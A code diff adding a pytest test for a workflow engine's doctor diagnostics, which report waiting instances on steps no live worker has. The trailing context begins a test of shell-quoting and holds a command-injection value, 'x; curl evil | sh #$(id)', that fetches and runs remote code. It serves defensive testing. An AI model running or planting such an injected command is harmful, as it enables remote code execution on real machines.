@@ -177,6 +177,35 @@ async def test_due_work_without_a_worker(db: Any, database: Database, client: An
     )
 
 
+@pytest.mark.clause("OPS-9", "VER-8")
+async def test_steps_that_no_live_worker_has(db: Any, database: Database, client: Any) -> None:
+    row = msgspec.structs.replace(
+        WORKER_ROW, fsms=["A", "B"], fsm_versions=[1, 2], fsm_steps='[["s", "old"], ["t"]]'
+    )
+    await database.run(workers.announce(row, AN_HOUR))
+    await database.run(
+        workers.announce(msgspec.structs.replace(row, name="v", fsm_steps='[["u"], []]'), AN_HOUR)
+    )
+    for step in ("s", "old", "u"):
+        await put(db, step=step)
+    await put(db, "done", step="gone", rest_step="gone", finished_at="=now()")
+    await put(db, fsm="B", fsm_version=2, step="t")
+    assert codes(await client.doctor()) == []
+    await put(db, step="gone", eligible_at="=now() + interval '1 h'")
+    await put(db, step="gone", concurrency_key="k", eligible_at="=now() + interval '1 h'")
+    await put(db, "awaiting_signal", fsm="B", fsm_version=2, step="s", rest_step="s", awaits="{go}")
+    first, second = await client.doctor()
+    assert (first.code, first.severity, first.facts) == (
+        "step.unknown",
+        "problem",
+        {"machine": "A", "version": 1, "step": "gone", "count": 2, "steps": ["old", "s", "u"]},
+    )
+    assert first.what == (
+        "no live worker has step gone of A version 1; 2 waiting instances; live workers have old, s, u"
+    )
+    assert second.facts == {"machine": "B", "version": 2, "step": "s", "count": 1, "steps": ["t"]}
+
+
 async def test_names_in_suggested_commands_are_shell_quoted(db: Any, client: Any) -> None:
     """Producers choose the names of queues and limits."""
     name = "x; curl evil | sh #$(id)"
